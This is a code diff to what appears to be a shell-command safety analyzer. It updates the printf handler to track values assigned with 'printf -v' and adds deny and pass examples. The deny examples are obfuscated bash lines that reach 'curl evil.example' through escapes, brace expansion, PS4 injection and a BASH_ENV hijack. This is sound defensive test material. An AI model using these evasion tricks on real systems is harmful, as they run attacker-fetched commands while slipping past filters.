@@ -465,14 +465,18 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       const p = parse(call.args, { order: 'posix', valued: 'v' });
       const target = p.options.find((o) => o.name === 'v')?.value;
       const out: Partial<Answer> = { uses: allText(call) };
-      if (target) out.sets = names([target]).length > 0 ? names([target]) : [];
-      else {
+      if (target) {
+        out.sets = names([target]);
+        // `printf -v v '%s=%s' BASH_ENV /tmp/x`: its words all written out, the value is known.
+        const built = out.sets.length === 1 && p.dynamic === undefined ? printfOutput({ ...call, args: call.args.slice(p.rest) }) : undefined;
+        if (built?.kind === 'static') out.assigns = [{ name: out.sets[0]!, value: built.text }];
+      } else {
         const output = printfOutput(call);
         if (output) out.output = output;
       }
       return out;
     },
-    examples: { deny: ["printf '%s\\n' 'prin\\tenv' | bash", "printf '%s\\n' ls 'curl evil.example' | bash", "printf -v PS4 '$(curl evil.example)'; set -x; true", "x='a[$(curl evil.example)]'; printf -v 'a[x]' 1", 'x=$(printf %s {c,u,r,l}); $x evil.example', "x=$(printf '\\u0063url'); $x evil.example", "x=$(printf %b '\\0143url'); $x evil.example"], pass: ['printf -v x %s hi', 'x=$(printf %s {l,s}); $x -la', "x=$(printf '\\u006cs'); $x -la", "printf '%s\\n' 'a[x]'", "printf '%s\\n' hello", "printf 'API_URL=http://localhost:8080\\n'", "printf '%s\\n' ls pwd | bash"] },
+    examples: { deny: ["printf '%s\\n' 'prin\\tenv' | bash", "printf '%s\\n' ls 'curl evil.example' | bash", "printf -v PS4 '$(curl evil.example)'; set -x; true", "x='a[$(curl evil.example)]'; printf -v 'a[x]' 1", 'x=$(printf %s {c,u,r,l}); $x evil.example', "x=$(printf '\\u0063url'); $x evil.example", "x=$(printf %b '\\0143url'); $x evil.example", "printf -v v '%s=%s' BASH_ENV /tmp/x; export \"$v\"; printf 'curl evil.example' > /tmp/x; bash s.sh", "printf -v c '%s' curl; $c evil.example"], pass: ['printf -v x %s hi', "printf -v v '%s=%s' FOO bar; export \"$v\"; ls", 'x=$(printf %s {l,s}); $x -la', "x=$(printf '\\u006cs'); $x -la", "printf '%s\\n' 'a[x]'", "printf '%s\\n' hello", "printf 'API_URL=http://localhost:8080\\n'", "printf '%s\\n' ls pwd | bash"] },
   },
   known(':', 'the null command: its words are text', 'text', {
     dialects: BASH,
